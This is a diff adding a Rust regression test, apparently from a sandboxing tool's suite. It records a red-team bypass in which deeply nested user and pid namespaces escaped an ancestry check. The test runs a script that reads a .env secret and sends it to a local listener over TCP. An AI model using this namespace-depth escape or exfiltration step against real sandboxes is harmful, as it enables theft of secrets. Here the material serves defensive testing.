@@ -4518,3 +4518,30 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
         assert_read_but_tainted(&o, &server.received(), held, read, how);
     }
 }
+
+/// Red team round 6 (deep-nested-pidns): a process of the sandbox in a pid
+/// namespace of its own (`clone(CLONE_NEWUSER|CLONE_NEWPID)`, which the profile
+/// allows), 4,100 generations below the sandbox's init, was judged outside the
+/// sandbox (the ancestry walk stopped at 4,096) and its open of `.env` allowed
+/// untainted. The sandbox's cgroup holds it, and an ancestry past the bound fails
+/// closed.
+#[test]
+fn isolated_files_an_opener_deep_in_nested_pid_namespaces_is_the_sandboxs() {
+    if !kernel_opens() {
+        eprintln!("not run: tripwires are isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated opens decide every open");
+        return;
+    }
+    let ip = "127.77.41.60";
+    let server = Tcp::new(ip, 443);
+    let f = Fixture::new("iso-deep-pidns").with_attack();
+    std::fs::write(f.ws.join(".env"), "SECRET-ENV-deep-r6\n").unwrap();
+    let script = format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack deepchain .env 4100 {ip} 443");
+    let o = f.run(&[], &["/bin/sh", "-c", &script]);
+    assert_read_but_tainted(
+        &o,
+        &server.received(),
+        true,
+        "deepchain read at depth 4100: 19",
+        "deep-nested-pidns",
+    );
+}
